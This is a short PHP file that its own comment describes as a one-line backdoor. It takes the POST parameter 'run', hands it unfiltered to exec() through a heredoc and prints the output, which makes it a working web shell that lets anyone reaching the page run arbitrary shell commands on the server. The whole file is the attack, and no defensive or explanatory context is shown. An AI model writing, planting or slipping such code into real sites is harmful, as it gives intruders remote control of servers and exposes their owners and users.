<?php
// Heredoc command with the posted value interpolated, as a one-line backdoor.
$out = [];
exec(<<<CMD
$_POST[run] 2>&1
CMD, $out);
print implode("\n", $out);
